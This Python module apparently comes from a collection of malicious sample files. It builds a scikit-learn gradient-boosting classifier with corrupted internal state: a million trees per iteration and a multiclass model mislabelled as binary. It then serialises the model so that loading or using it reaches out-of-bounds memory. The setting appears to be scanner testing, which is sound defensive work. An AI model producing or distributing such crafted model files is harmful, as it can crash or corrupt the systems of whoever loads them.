"""The loss of a gradient boosting takes one column of many, as if there were two classes."""

from __future__ import annotations

from typing import Any

import numpy as np
from sklearn._loss.link import LogitLink
from sklearn.ensemble import GradientBoostingClassifier

from malicious_samples.native_state import dumped, fitted


def model(trees: int = 9) -> Any:
    model = fitted(GradientBoostingClassifier(n_estimators=1, random_state=0), classes=3)
    model.estimators_[0, 0].tree_.value[:] = 1e9
    model.estimators_ = np.repeat(model.estimators_[:, :1], trees, axis=1)
    model.n_trees_per_iteration_ = trees
    model.init_.n_classes_ = trees
    model.init_.class_prior_ = np.full(trees, 0.1)
    # An attribute of the class.
    setattr(model._loss, "is_multiclass", False)  # noqa: B010
    model._loss.link = LogitLink()
    return model


def build(canary: str) -> bytes:
    del canary
    # Enough to reach beyond the heap, however large it is.
    return dumped(model(1_000_000))
